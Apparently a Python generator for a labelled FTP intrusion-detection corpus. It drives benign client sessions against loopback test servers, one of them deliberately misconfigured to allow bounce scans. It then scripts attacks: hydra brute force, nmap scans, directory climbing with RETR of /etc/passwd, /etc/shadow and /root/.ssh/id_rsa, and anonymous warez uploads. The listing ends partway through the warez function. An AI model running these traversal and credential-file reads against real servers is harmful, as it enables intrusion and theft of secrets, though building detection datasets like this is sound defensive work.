#!/usr/bin/python3
"""Second FTP corpus for ftp-ids: file trees, the pyftpdlib server, benign and attack runs, labelling, README.

Run by scripts/capture-corpus2.sh with Debian's /usr/bin/python3 (needs python3-pyftpdlib for `pyftpd`).

Every *run* (one client invocation: a wget, an ncftpget, a hydra, an nmap, one ftplib session, ...) has a
loopback source address that no other run uses at the same time, and a time window [t0, t1].  The labeller
takes the capture's SYNs to the servers' control ports and gives each the label of the one run whose source
address and window contain it; it refuses to write when a SYN matches no run or several.
"""
from __future__ import annotations

import argparse
import csv
import ftplib
import io
import json
import os
import random
import shlex
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
from collections import Counter, defaultdict

HERE = os.path.dirname(os.path.abspath(__file__))

SERVERS = {  # name -> (address, control port); keep in step with capture-corpus2.sh
    "bsd-ftpd": ("127.0.5.1", 21),
    "inetutils-ftpd": ("127.0.5.2", 2121),
    "pyftpdlib": ("127.0.5.3", 2100),
    "vsftpd-anonwrite": ("127.0.5.4", 21),
}
TLS_SERVERS = {"bsd-ftpd", "vsftpd-anonwrite"}
ANON_WRITE_SERVERS = {"vsftpd-anonwrite"}
BOUNCE_TARGET = "127.0.5.200"
BOUNCE_PORTS = [8080, 9000, 2525]


def _create_connection(address, timeout=socket._GLOBAL_DEFAULT_TIMEOUT, source_address=None, **_kw):
    """socket.create_connection for IPv4 with IP_BIND_ADDRESS_NO_PORT: with a source address, the port is chosen
    at connect() time for the whole 4-tuple, so consecutive sessions from one address never reuse endpoints."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        if timeout is not socket._GLOBAL_DEFAULT_TIMEOUT:
            s.settimeout(timeout)
        if source_address:
            s.setsockopt(socket.IPPROTO_IP, getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24), 1)
            s.bind(source_address)
        s.connect(address)
        return s
    except BaseException:
        s.close()
        raise


socket.create_connection = _create_connection  # used by ftplib and by the scripted attacks


def log(msg: str) -> None:
    print(f"{time.strftime('%H:%M:%S')} corpus2.py: {msg}", file=sys.stderr, flush=True)


def parse_users(s: str) -> dict[str, str]:
    return dict(u.split(":", 1) for u in s.split())


# ------------------------------------------------------------------------------------------------ file trees
def cmd_tree(a) -> None:
    """Fresh homes and anonymous tree each run (the shell script sets owners and modes)."""
    users = parse_users(a.users)

    def put(path: str, size: int, rng: random.Random, binary: bool) -> None:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            if binary:
                f.write(bytes(rng.randrange(256) for _ in range(size)))
            else:
                words = ["lorem", "ipsum", "ledger", "invoice", "alpha", "delta", "mirror", "sample", "row"]
                text = ""
                while len(text) < size:
                    text += " ".join(rng.choice(words) for _ in range(9)) + "\n"
                f.write(text[:size].encode())

    for name in users:
        home = f"{a.work}/home/{name}"
        rng = random.Random("home-" + name)
        files = {"todo.txt": 400, "contacts.csv": 1800, "docs/handbook.txt": 2600, "docs/minutes-03.txt": 900,
                 "docs/archive/2022-report.txt": 1500, "photos/2023/img_0012.jpg": 3000,
                 "photos/2023/img_0013.jpg": 2800, "src/tool/main.c": 1200, "src/tool/Makefile": 300,
                 "src/tool/README": 500}
        for rel, size in files.items():
            put(f"{home}/{rel}", size, rng, rel.endswith(".jpg"))
        os.makedirs(f"{home}/uploads", exist_ok=True)
    anon = f"{a.work}/anon"
    rng = random.Random("anon")
    files = {"pub/README": 700, "pub/MIRRORS.txt": 350, "pub/tools/netkit-0.9.tar.gz": 4200,
             "pub/tools/netkit-0.9.tar.gz.sig": 300, "pub/tools/CHANGES": 900, "pub/docs/rfc959-notes.txt": 2400,
             "pub/docs/howto/ftp-howto.txt": 1900, "pub/docs/howto/index.html": 600, "welcome.msg": 250}
    for rel, size in files.items():
        put(f"{anon}/{rel}", size, rng, rel.endswith(".gz") or rel.endswith(".sig"))
    os.makedirs(f"{anon}/incoming", exist_ok=True)


# ------------------------------------------------------------------------------------------------ pyftpdlib
def cmd_pyftpd(a) -> None:
    from pyftpdlib.authorizers import DummyAuthorizer
    from pyftpdlib.handlers import FTPHandler
    from pyftpdlib.servers import FTPServer

    users = parse_users(a.users)
    auth = DummyAuthorizer()
    for name, pw in users.items():
        auth.add_user(name, pw, f"{a.work}/home/{name}", perm="elradfmwMT")
    auth.add_anonymous(f"{a.work}/anon", perm="elr")  # read-only anonymous
    h = FTPHandler
    h.authorizer = auth
    # A deliberate misconfiguration: PORT/EPRT to foreign addresses allowed, so bounce scans succeed here.
    h.permit_foreign_addresses = True
    h.permit_privileged_ports = True
    h.max_login_attempts = 3
    h.auth_failed_timeout = 0.5
    h.timeout = 120
    addr, port = a.listen.rsplit(":", 1)
    srv = FTPServer((addr, int(port)), h)
    srv.max_cons = 512
    srv.max_cons_per_ip = 256
    srv.serve_forever()


# ------------------------------------------------------------------------------------------------ runs
class Runs:
    """The run log: one JSON line per run (client invocation), written as each run ends."""

    def __init__(self, path: str, phase: str):
        self.f = open(path, "a")
        self.phase = phase
        self.lock = threading.Lock()

    def add(self, **row) -> None:
        row["phase"] = self.phase
        with self.lock:
            self.f.write(json.dumps(row) + "\n")
            self.f.flush()


class Ctx:
    def __init__(self, a, runs: Runs, tmp: str):
        self.work = a.work
        self.seed = int(a.seed)
        self.users = parse_users(a.users)
        self.runs = runs
        self.tmp = tmp
        self.shim = f"{a.work}/bindshim.so"


def run_tool(ctx: Ctx, cls: str, scenario: str, server: str, src: str, argv: list[str], *, tool: str,
             timeout: float = 60, shim: bool = False, cwd: str | None = None, env_extra: dict | None = None,
             note: str = "") -> int:
    env = dict(os.environ)
    env["HOME"] = ctx.tmp  # ncftp and lftp keep state under $HOME: keep it out of root's home
    if shim:
        env["LD_PRELOAD"] = ctx.shim
        env["BIND_ADDR"] = src
    if env_extra:
        env.update(env_extra)
    t0 = time.time()
    try:
        p = subprocess.run(argv, env=env, cwd=cwd or ctx.tmp, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                           stderr=subprocess.STDOUT, timeout=timeout)
        rc, out = p.returncode, p.stdout.decode(errors="replace")
    except subprocess.TimeoutExpired as e:
        rc, out = -9, (e.stdout or b"").decode(errors="replace")
    t1 = time.time()
    ctx.runs.add(cls=cls, scenario=scenario, server=server, src=src, t0=t0, t1=t1, tool=tool,
                 argv=argv, rc=rc, note=note, out_tail=out[-300:])
    return rc


def run_py(ctx: Ctx, cls: str, scenario: str, server: str, src: str, fn, *, tool: str = "python3 ftplib",
           note: str = "") -> None:
    t0 = time.time()
    err = ""
    try:
        fn()
    except Exception as e:  # a refused command or a server that hangs up is part of the traffic
        err = f"{type(e).__name__}: {e}"[:200]
    t1 = time.time()
    ctx.runs.add(cls=cls, scenario=scenario, server=server, src=src, t0=t0, t1=t1, tool=tool, argv=[],
                 rc=0 if not err else 1, note=note, out_tail=err)


def ftp_url(server: str, path: str = "") -> str:
    addr, port = SERVERS[server]
    return f"ftp://{addr}:{port}/{path}"


def tls_context() -> ssl.SSLContext:
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    c.check_hostname = False
    c.verify_mode = ssl.CERT_NONE
    return c


def new_ftp(server: str, src: str, tls: bool = False, timeout: float = 15) -> ftplib.FTP:
    addr, port = SERVERS[server]
    f = ftplib.FTP_TLS(context=tls_context(), timeout=timeout) if tls else ftplib.FTP(timeout=timeout)
    f.source_address = (src, 0)
    f.connect(addr, port, source_address=(src, 0))
    return f


# ------------------------------------------------------------------------------------------------ benign
USER_FILES = ["todo.txt", "contacts.csv", "docs/handbook.txt", "docs/minutes-03.txt", "docs/archive/2022-report.txt",
              "photos/2023/img_0012.jpg", "src/tool/main.c", "src/tool/Makefile", "src/tool/README"]
ANON_FILES = ["pub/README", "pub/MIRRORS.txt", "pub/tools/netkit-0.9.tar.gz", "pub/tools/netkit-0.9.tar.gz.sig",
              "pub/tools/CHANGES", "pub/docs/rfc959-notes.txt", "pub/docs/howto/ftp-howto.txt", "welcome.msg"]
USER_DIRS = ["docs", "docs/archive", "photos", "photos/2023", "src", "src/tool"]
ANON_DIRS = ["pub", "pub/tools", "pub/docs", "pub/docs/howto"]


def local_payload(ctx: Ctx, rng: random.Random, name: str) -> str:
    d = f"{ctx.tmp}/up-{rng.randrange(10**9)}"
    os.makedirs(d, exist_ok=True)
    p = f"{d}/{name}"
    with open(p, "wb") as f:
        f.write(("%s %d\n" % (name, rng.randrange(10**6))).encode() * rng.randint(5, 60))
    return p


def pick_login(ctx: Ctx, rng: random.Random, anon_share: float = 0.4) -> tuple[str, str] | None:
    if rng.random() < anon_share:
        return None
    u = rng.choice(sorted(ctx.users))
    return u, ctx.users[u]


def b_wget(ctx, rng, server, src, job) -> None:
    login = pick_login(ctx, rng)
    out = f"{ctx.tmp}/wget-{job}"
    argv = ["wget", "-q", "--tries=1", "--timeout=15", f"--bind-address={src}", "-P", out]
    if rng.random() < 0.35:
        argv.append("--no-passive-ftp")
    if login:
        argv += [f"--user={login[0]}", f"--password={login[1]}"]
    if rng.random() < 0.3:
        scen = "wget-recursive"
        top = rng.choice(["docs", "src"]) if login else rng.choice(["pub/docs", "pub/tools"])
        argv += ["-r", "-np", "-nH", "-l", "3", ftp_url(server, top + "/")]
    else:
        scen = "wget-get"
        files = rng.sample(USER_FILES if login else ANON_FILES, rng.randint(1, 2))
        argv += [ftp_url(server, f) for f in files]  # wget reuses one control connection per host
    run_tool(ctx, "benign", scen, server, src, argv, tool="wget")


def ncftp_login_args(login) -> list[str]:
    return ["-u", login[0], "-p", login[1]] if login else []


def b_ncftp(ctx, rng, server, src, job) -> None:
    addr, port = SERVERS[server]
    login = pick_login(ctx, rng)
    mode = ["-E"] if rng.random() < 0.3 else ["-F"]
    r = rng.random()
    if login and r < 0.3:
        scen = "ncftp-put"
        f = local_payload(ctx, rng, rng.choice(["notes-%d.txt", "draft-%d.md", "scan-%d.pdf"]) % job)
        argv = ["ncftpput", "-t", "15", "-V", *mode, *ncftp_login_args(login), "-P", str(port), addr, "uploads", f]
    elif r < 0.65:
        scen = "ncftp-get"
        files = rng.sample(USER_FILES if login else ANON_FILES, rng.randint(1, 3))
        d = f"{ctx.tmp}/ncftp-{job}"
        os.makedirs(d, exist_ok=True)
        argv = ["ncftpget", "-t", "15", "-V", *mode, *ncftp_login_args(login), "-P", str(port), addr, d, *files]
    else:
        scen = "ncftp-ls"
        d = rng.choice(USER_DIRS if login else ANON_DIRS)
        argv = ["ncftpls", "-t", "15", *mode, *ncftp_login_args(login), "-P", str(port),
                rng.choice(["-l", "-1", "-la"]), ftp_url(server, d + "/").replace(f":{port}/", "/")]
    run_tool(ctx, "benign", scen, server, src, argv, tool="ncftp", shim=True)


def lftp_quote(s: str) -> str:
    return '"' + s.replace("\\", "\\\\").replace('"', '\\"') + '"'


def b_lftp(ctx, rng, server, src, job) -> None:
    addr, port = SERVERS[server]
    login = pick_login(ctx, rng, 0.3)
    tls = bool(login) and server in TLS_SERVERS and server != "bsd-ftpd" and rng.random() < 0.6
    cmds = [f"set net:socket-bind-ipv4 {src}", "set net:max-retries 1", "set net:timeout 10",
            "set net:reconnect-interval-base 1", "set cmd:fail-exit yes", "set xfer:clobber on",
            f"set ftp:passive-mode {'on' if rng.random() < 0.65 else 'off'}",
            f"set ftp:ssl-allow {'yes' if tls else 'no'}", "set ssl:verify-certificate no"]
    if tls:
        cmds += ["set ftp:ssl-force yes", f"set ftp:ssl-protect-data {'yes' if rng.random() < 0.7 else 'no'}"]
    cmds.append(f"open -u {lftp_quote(login[0] + ',' + login[1]) if login else 'anonymous,lftp@'} -p {port} {addr}")
    r = rng.random()
    local = f"{ctx.tmp}/lftp-{job}"
    os.makedirs(local, exist_ok=True)
    if r < 0.3:
        scen = "lftp-mirror"
        cmds.append(f"mirror --no-perms {rng.choice(USER_DIRS[:1] + ['src'] if login else ['pub/docs', 'pub/tools'])} {local}")
    elif r < 0.5 and login:
        scen = "lftp-mirror-up"
        for i in range(rng.randint(1, 3)):
            local_payload(ctx, rng, f"sync-{job}-{i}.txt")
        up = os.path.dirname(local_payload(ctx, rng, f"sync-{job}.log"))
        cmds.append(f"mirror -R --no-perms {up} uploads/sync-{job}")
    else:
        scen = "lftp-session"
        dirs = USER_DIRS if login else ANON_DIRS
        d = rng.choice(dirs)
        cmds += [f"cd {d}", rng.choice(["ls", "cls -l", "nlist"]), "cd ..", "ls", "cd ~"]
        files = USER_FILES if login else ANON_FILES
        cmds.append(f"get {rng.choice(files)} -o {local}/")
        if login and rng.random() < 0.5:
            cmds.append(f"put {local_payload(ctx, rng, f'report-{job}.txt')} -o uploads/report-{job}.txt")
    cmds.append(rng.choice(["bye", "exit", "quit"]))
    run_tool(ctx, "benign", scen + ("-tls" if tls else ""), server, src, ["lftp", "-c", "; ".join(cmds)],
             tool="lftp", timeout=60)


def b_curl(ctx, rng, server, src, job) -> None:
    login = pick_login(ctx, rng)
    tls = bool(login) and server == "vsftpd-anonwrite" and rng.random() < 0.5
    argv = ["curl", "-sS", "--interface", src, "--connect-timeout", "5", "-m", "30"]
    if login:
        argv += ["-u", f"{login[0]}:{login[1]}"]
    if tls:
        argv += ["--ssl-reqd", "-k"]
    if rng.random() < 0.3:
        argv += ["--ftp-port", src]  # active mode (EPRT, then PORT)
    elif rng.random() < 0.3:
        argv.append("--disable-epsv")
    r = rng.random()
    if login and r < 0.25:
        scen = "curl-put"
        f = local_payload(ctx, rng, f"curl-{job}.dat")
        argv += ["-T", f, ftp_url(server, "uploads/")]
    elif r < 0.55:
        scen = "curl-get"
        argv += ["-o", f"{ctx.tmp}/curl-{job}.out", ftp_url(server, rng.choice(USER_FILES if login else ANON_FILES))]
    elif r < 0.8:
        scen = "curl-list"
        if rng.random() < 0.4:
            argv.append("-l")
        argv += ["-o", f"{ctx.tmp}/curl-{job}.lst", ftp_url(server, rng.choice(USER_DIRS if login else ANON_DIRS) + "/")]
    else:
        scen = "curl-quote"
        q = rng.choice([["-Q", "PWD"], ["-Q", "SYST"], ["-Q", "NOOP"], ["-Q", "-STAT"], ["-Q", "HELP"]])
        if login and rng.random() < 0.5:
            q += ["-Q", f"-MKD uploads/dir-{job}"]
        argv += q + ["-o", f"{ctx.tmp}/curl-{job}.lst", ftp_url(server, rng.choice(USER_DIRS if login else ANON_DIRS) + "/")]
    run_tool(ctx, "benign", scen + ("-tls" if tls else ""), server, src, argv, tool="curl")


def retr(f: ftplib.FTP, path: str) -> None:
    buf = io.BytesIO()
    f.retrbinary("RETR " + path, buf.write)


def browse_down_up(f: ftplib.FTP, rng: random.Random, dirs: list[str]) -> None:
    """Go down a directory path and back up with ordinary `CWD ..` (never above the login directory)."""
    d = rng.choice([x for x in dirs if "/" in x] or dirs)
    parts = d.split("/")
    for p in parts:
        f.cwd(p)
        if rng.random() < 0.5:
            f.retrlines(rng.choice(["LIST", "NLST"]), lambda _l: None)
    if rng.random() < 0.5:
        f.pwd()
    for _ in parts:
        f.cwd(rng.choice(["..", ".."]) if rng.random() < 0.8 else "..")
    f.pwd()


def b_ftplib(ctx, rng, server, src, job) -> None:
    kinds = ["browse", "download", "upload", "failed-login", "keepalive", "anon-browse"]
    weights = [3, 3, 2, 1.2, 1, 2]
    if server in ANON_WRITE_SERVERS:
        kinds.append("anon-dropoff"); weights.append(1)
    if server in TLS_SERVERS and server != "bsd-ftpd":
        kinds.append("tls"); weights.append(1.5)
    kind = rng.choices(kinds, weights)[0]
    users = sorted(ctx.users)
    u = rng.choice(users)
    pw = ctx.users[u]
    pasv = rng.random() < 0.7

    def session():
        f = new_ftp(server, src, tls=(kind == "tls"))
        f.set_pasv(pasv)
        try:
            if kind in ("anon-browse", "anon-dropoff"):
                f.login("anonymous", rng.choice(["guest@example.org", "mozilla@example.com", "anonymous@"]))
            elif kind == "failed-login":
                bad = rng.choice([pw[:-1], pw.upper(), pw + "1", "password"])
                try:
                    f.login(u, bad)
                except ftplib.error_perm:
                    pass
                if server == "vsftpd-anonwrite" or rng.random() < 0.3:
                    # some users reconnect rather than retry in the same session
                    f.close()
                    f = new_ftp(server, src)
                    f.set_pasv(pasv)
                f.login(u, pw)
            else:
                f.login(u, pw)
                if kind == "tls":
                    f.prot_p()
            if rng.random() < 0.5:
                f.sendcmd(rng.choice(["SYST", "PWD", "TYPE I", "NOOP"]))
            if kind in ("browse", "tls"):
                f.retrlines("LIST", lambda _l: None)
                browse_down_up(f, rng, USER_DIRS)
                if rng.random() < 0.5:
                    retr(f, rng.choice(USER_FILES))
            elif kind == "anon-browse":
                f.retrlines(rng.choice(["LIST", "NLST"]), lambda _l: None)
                browse_down_up(f, rng, ANON_DIRS)
                for p in rng.sample(ANON_FILES, rng.randint(0, 2)):
                    retr(f, p)
            elif kind == "download":
                for p in rng.sample(USER_FILES, rng.randint(1, 3)):
                    if rng.random() < 0.3:
                        try:
                            f.size(p)
                        except ftplib.error_perm:
                            pass
                    retr(f, p)
            elif kind == "upload":
                f.cwd("uploads")
                name = f"u{job}-{rng.choice(['notes', 'log', 'data'])}.txt"
                f.storbinary("STOR " + name, io.BytesIO(os.urandom(8).hex().encode() * rng.randint(5, 80)))
                f.retrlines("LIST", lambda _l: None)
                if rng.random() < 0.4:
                    f.rename(name, name + ".bak")
                elif rng.random() < 0.4:
                    f.delete(name)
                f.cwd("..")
            elif kind == "failed-login":
                f.retrlines("NLST", lambda _l: None)
            elif kind == "keepalive":
                for _ in range(rng.randint(2, 4)):
                    time.sleep(rng.uniform(1.0, 3.0))
                    f.voidcmd("NOOP")
                retr(f, rng.choice(USER_FILES))
            elif kind == "anon-dropoff":
                f.cwd("incoming")
                f.storbinary(f"STOR feedback-{job}.txt", io.BytesIO(b"thanks for the mirror\n" * rng.randint(1, 20)))
            if rng.random() < 0.85:
                f.quit()
            else:
                f.close()  # some scripts just drop the connection
        finally:
            f.close()

    run_py(ctx, "benign", f"ftplib-{kind}", server, src, session, tool="python3 ftplib")


BENIGN_CLIENTS = [("ftplib", b_ftplib, 0.36), ("wget", b_wget, 0.14), ("ncftp", b_ncftp, 0.16),
                  ("lftp", b_lftp, 0.16), ("curl", b_curl, 0.18)]


def phase_ctx(a, phase: str, tmp_name: str) -> Ctx:
    """The run log of one phase and a fresh client scratch directory."""
    tmp = f"{a.work}/{tmp_name}"
    subprocess.run(["rm", "-rf", tmp])
    os.makedirs(tmp)
    return Ctx(a, Runs(a.runs, phase), tmp)


def cmd_benign(a) -> None:
    ctx = phase_ctx(a, "benign", "client-tmp")
    rng = random.Random(f"{a.seed}-benign-plan")
    n = int(a.n or 380)
    names = list(SERVERS)
    plan = []
    for i in range(n):
        client = rng.choices(BENIGN_CLIENTS, [w for _, _, w in BENIGN_CLIENTS])[0]
        plan.append((i, client[0], client[1], names[i % len(names)] if i < len(names) else rng.choice(names)))
    workers = 3
    # each worker owns its own 127.0.6.x addresses and runs its jobs one after the other
    pools = [[f"127.0.6.{10 + w * 70 + k}" for k in range(70)] for w in range(workers)]

    def worker(w: int) -> None:
        for j, (i, cname, fn, server) in enumerate([p for p in plan if p[0] % workers == w]):
            src = pools[w][j % len(pools[w])]
            try:
                fn(ctx, random.Random(f"{a.seed}-benign-{i}"), server, src, i)
            except Exception as e:
                log(f"benign job {i} ({cname}) failed: {e}")
            time.sleep(0.05)

    ts = [threading.Thread(target=worker, args=(w,)) for w in range(workers)]
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    log(f"benign: {n} jobs")


# ------------------------------------------------------------------------------------------------ transfers
# A third capture of benign sessions whose point is the data channel: every server, passive and active mode,
# download and upload, with sizes from empty to 1 MiB (the benign phase moves only 0-4.2 kB) and contents that
# the data-channel sniff tells apart.  Each (mode, direction) pair gets every size of XFER_SIZES exactly once,
# spread over the four servers in an order fixed by the seed.
XFER_SIZES = [0, 1, 100, 1448, 4096, 20000, 65483, 65536, 131072, 250000, 1048576, 10]
XFER_KINDS = [("txt", b""), ("gz", b"\x1f\x8b\x08\x00"), ("bin", b"\x7fELF\x02\x01\x01\x00"),
              ("png", b"\x89PNG\r\n\x1a\n"), ("zip", b"PK\x03\x04"), ("dat", b"")]
XFER_DOWN_TOOLS = ["curl", "wget", "lftp", "ncftp", "ftplib"]
XFER_UP_TOOLS = ["curl", "lftp", "ncftp", "ftplib"]


def xfer_bytes(rng: random.Random, size: int, kind: str, magic: bytes) -> bytes:
    if kind == "txt":
        words = [b"ledger", b"mirror", b"sample", b"invoice", b"row", b"delta"]
        out = bytearray()
        while len(out) < size:
            out += b" ".join(rng.choice(words) for _ in range(8)) + b"\n"
        return bytes(out[:size])
    return (magic + rng.randbytes(size))[:size]


def xfer_file(dirpath: str, rng: random.Random, size: int, i: int) -> str:
    kind, magic = XFER_KINDS[i % len(XFER_KINDS)]
    name = f"blob-{size}-{i}.{kind}"
    os.makedirs(dirpath, exist_ok=True)
    with open(f"{dirpath}/{name}", "wb") as f:
        f.write(xfer_bytes(rng, size, kind, magic))
    return name


def cmd_transfers(a) -> None:
    import shutil
    ctx = phase_ctx(a, "transfers", "client-tmp-xfer")
    tmp = ctx.tmp
    rng = random.Random(f"{a.seed}-transfers-plan")
    users = sorted(ctx.users)
    jobs = []  # (server, mode, direction, sizes)
    for mode in ("pasv", "port"):
        for direction in ("down", "up"):
            sizes = XFER_SIZES[:]
            rng.shuffle(sizes)
            for k, server in enumerate(SERVERS):
                jobs.append((server, mode, direction, sizes[3 * k:3 * k + 3]))
    made = []
    try:
        for j, (server, mode, direction, sizes) in enumerate(jobs):
            jr = random.Random(f"{a.seed}-transfers-{j}")
            u = users[j % len(users)]
            pw = ctx.users[u]
            src = f"127.0.8.{10 + j}"
            tools = XFER_DOWN_TOOLS if direction == "down" else XFER_UP_TOOLS
            tool = tools[j % len(tools)]
            if direction == "down":  # files in the user's home, owned by the user, as any other of their files
                d = f"{a.work}/home/{u}/xfer"
                names = [f"xfer/{xfer_file(d, jr, s, j * 3 + i)}" for i, s in enumerate(sizes)]
                shutil.chown(d, u, "ftpc2")
                for n in names:
                    shutil.chown(f"{a.work}/home/{u}/{n}", u, "ftpc2")
                made.append(d)
                local = f"{tmp}/job-{j}"
                os.makedirs(local, exist_ok=True)
            else:
                local = f"{tmp}/job-{j}"
                names = [f"{local}/{xfer_file(local, jr, s, j * 3 + i)}" for i, s in enumerate(sizes)]
            run_xfer(ctx, server, src, u, pw, mode, direction, tool, names, local, jr)
    finally:
        for d in made:
            shutil.rmtree(d, ignore_errors=True)
    log(f"transfers: {len(jobs)} jobs")


def run_xfer(ctx, server, src, u, pw, mode, direction, tool, names, local, rng) -> None:
    addr, port = SERVERS[server]
    scen = f"xfer-{direction}-{mode}-{tool}"
    if tool == "ftplib":
        def session():
            f = new_ftp(server, src, timeout=30)
            f.set_pasv(mode == "pasv")
            try:
                f.login(u, pw)
                f.voidcmd("TYPE I")
                for n in names:
                    if direction == "down":
                        retr(f, n)
                    else:
                        with open(n, "rb") as fh:
                            f.storbinary("STOR uploads/" + os.path.basename(n), fh)
                f.quit()
            finally:
                f.close()
        run_py(ctx, "benign", scen, server, src, session)
        return
    if tool == "curl":
        argv = ["curl", "-sS", "--interface", src, "--connect-timeout", "5", "-m", "60", "-u", f"{u}:{pw}"]
        if mode == "port":
            argv += ["--ftp-port", src]
        elif rng.random() < 0.5:
            argv.append("--disable-epsv")
        if direction == "down":
            for n in names:
                argv += ["-o", f"{local}/{os.path.basename(n)}", ftp_url(server, n)]
        else:
            argv += ["-T", "{" + ",".join(names) + "}", ftp_url(server, "uploads/")]
        run_tool(ctx, "benign", scen, server, src, argv, tool="curl", timeout=90)
    elif tool == "wget":
        argv = ["wget", "-q", "--tries=1", "--timeout=30", f"--bind-address={src}", "-P", local,
                f"--user={u}", f"--password={pw}"]
        if mode == "port":
            argv.append("--no-passive-ftp")
        argv += [ftp_url(server, n) for n in names]
        run_tool(ctx, "benign", scen, server, src, argv, tool="wget", timeout=90)
    elif tool == "lftp":
        cmds = [f"set net:socket-bind-ipv4 {src}", "set net:max-retries 1", "set net:timeout 20",
                "set cmd:fail-exit yes", "set xfer:clobber on", "set ftp:ssl-allow no",
                f"set ftp:passive-mode {'on' if mode == 'pasv' else 'off'}",
                f"open -u {lftp_quote(u + ',' + pw)} -p {port} {addr}"]
        for n in names:
            cmds.append(f"get {n} -o {local}/" if direction == "down" else f"put {n} -o uploads/{os.path.basename(n)}")
        cmds.append("bye")
        run_tool(ctx, "benign", scen, server, src, ["lftp", "-c", "; ".join(cmds)], tool="lftp", timeout=90)
    elif tool == "ncftp":
        flag = "-F" if mode == "pasv" else "-E"
        if direction == "down":
            argv = ["ncftpget", "-t", "30", "-V", flag, "-u", u, "-p", pw, "-P", str(port), addr, local, *names]
        else:
            argv = ["ncftpput", "-t", "30", "-V", flag, "-u", u, "-p", pw, "-P", str(port), addr, "uploads", *names]
        run_tool(ctx, "benign", scen, server, src, argv, tool="ncftp", shim=True, timeout=90)


# ------------------------------------------------------------------------------------------------ attacks
class RawFTP:
    def __init__(self, server: str, src: str, timeout: float = 10):
        addr, port = SERVERS[server]
        self.s = socket.create_connection((addr, port), timeout=timeout, source_address=(src, 0))
        self.buf = b""

    def reply(self) -> str:
        lines = []
        while True:
            while b"\r\n" not in self.buf and b"\n" not in self.buf:
                d = self.s.recv(4096)
                if not d:
                    return "\n".join(lines)
                self.buf += d
            i = self.buf.index(b"\n")
            line, self.buf = self.buf[:i].rstrip(b"\r").decode(errors="replace"), self.buf[i + 1:]
            lines.append(line)
            if len(line) >= 4 and line[:3].isdigit() and line[3] == " ":
                return "\n".join(lines)

    def cmd(self, line: str) -> str:
        self.s.sendall(line.encode() + b"\r\n")
        return self.reply()

    def close(self, rst: bool = False) -> None:
        if rst:
            self.s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.s.close()


class AttackSrc:
    def __init__(self):
        self.n = 10
        self.lock = threading.Lock()

    def next(self) -> str:
        with self.lock:
            self.n += 1
            assert self.n < 255
            return f"127.0.7.{self.n}"


def hydra(ctx, src_alloc, scenario, server, args: list[str], timeout=240) -> None:
    addr, port = SERVERS[server]
    src = src_alloc.next()
    argv = ["hydra", "-I", "-q", *args, "-s", str(port), f"ftp://{addr}"]
    log(f"{scenario}: {' '.join(argv)}")
    run_tool(ctx, "attack", scenario, server, src, argv, tool="hydra", shim=True, timeout=timeout,
             cwd=f"{ctx.tmp}/hydra")


NMAP_BASE = ["nmap", "-n", "-Pn", "-e", "lo", "--max-retries", "1"]


def nmap(ctx, src_alloc, scenario, server, args: list[str], target: str | None = None, timeout=240) -> None:
    addr, port = SERVERS[server] if server else (None, None)
    src = src_alloc.next()
    argv = NMAP_BASE + ["-S", src] + args + [target or addr]
    log(f"{scenario}: {' '.join(argv)}")
    run_tool(ctx, "attack", scenario, server, src, argv, tool="nmap", shim=True, timeout=timeout)


def a_cwd_climb(ctx, rng, server, src) -> None:
    r = RawFTP(server, src)
    r.reply()
    if rng.random() < 0.5:
        u = rng.choice(sorted(ctx.users)); r.cmd(f"USER {u}"); r.cmd(f"PASS {ctx.users[u]}")
    else:
        r.cmd("USER anonymous"); r.cmd("PASS " + rng.choice(["a@b.c", "IEUser@", "-wget@"]))
    r.cmd("PWD")
    style = rng.choice(["step", "double", "rooted", "mixed"])
    if style == "step":
        for _ in range(rng.randint(4, 7)):
            r.cmd("CWD ..")
            r.cmd("PWD")
    elif style == "double":
        r.cmd("CWD ../..")
        r.cmd("CWD ../../..")
        r.cmd("PWD")
    elif style == "rooted":
        r.cmd("CWD /../../..")
        r.cmd("PWD")
    else:
        r.cmd("CWD ..")
        r.cmd("CWD ../../../../")
        r.cmd("XPWD")
    r.cmd(rng.choice(["CWD etc", "CWD /etc", "CWD ../../../../etc"]))
    r.cmd("TYPE I")
    for target in rng.sample(["passwd", "/etc/passwd", "../../../../etc/passwd", "/etc/shadow", "shadow",
                              "../../../../../etc/shadow", "/root/.ssh/id_rsa"], rng.randint(2, 4)):
        p = r.cmd("PASV")
        if p.startswith("227"):
            nums = p[p.index("(") + 1:p.index(")")].split(",")
            daddr, dport = ".".join(nums[:4]), int(nums[4]) * 256 + int(nums[5])
            try:
                d = socket.create_connection((daddr, dport), timeout=5, source_address=(src, 0))
            except OSError:
                d = None
            rep = r.cmd(f"RETR {target}")
            if d:
                if rep.startswith("150") or rep.startswith("125"):
                    while d.recv(65536):
                        pass
                    d.close()
                    r.reply()
                else:
                    d.close()
    if rng.random() < 0.5:
        r.cmd("QUIT")
    r.close()


WAREZ = ["Adobe.Photoshop.CS6.Keygen.exe", "Office2019.Pro.Crack.rar", "WinRAR.5.61.patch.exe", "movie.1080p.part1.rar",
         "movie.1080p.part2.rar", "game-repack.r00", "game-repack.r01", "serials.zip", "AutoCAD.2020.x64.zip",
         "nfo.txt", "setup.exe", "dll-pack.zip", "0day.iso.001"]


def a_anon_warez(ctx, rng, server, src, i) -> None:
    r = RawFTP(server, src)
    r.reply()
    r.cmd("USER anonymous"); r.cmd("PASS " + rng.choice(["warez@", "a@a.com", "IEUser@"]))
    r.cmd("CWD incoming")
    hidden = rng.choice([".warez", "...", ". ", "..  ", ".x", ".tmp_%d" % rng.randrange(999), "_vti_"])
    hidden = f"{hidden}{i}" if hidden.strip(". ") else f"{hidden}{i}"
    r.cmd(f"MKD {hidden}")
    r.cmd(f"CWD {hidden}")
    if rng.random() < 0.5:
        r.cmd(f"MKD {rng.choice(['0day', 'incoming', 'apps', 'tmp'])}")
    r.cmd("TYPE I")
    for name in rng.sample(WAREZ, rng.randint(4, 9)):
        p = r.cmd("PASV")
        if not p.startswith("227"):
            break
        nums = p[p.index("(") + 1:p.index(")")].split(",")
        d = socket.create_connection((".".join(nums[:4]), int(nums[4]) * 256 + int(nums[5])), timeout=5,
                                     source_address=(src, 0))
        rep = r.cmd(f"STOR {name}")
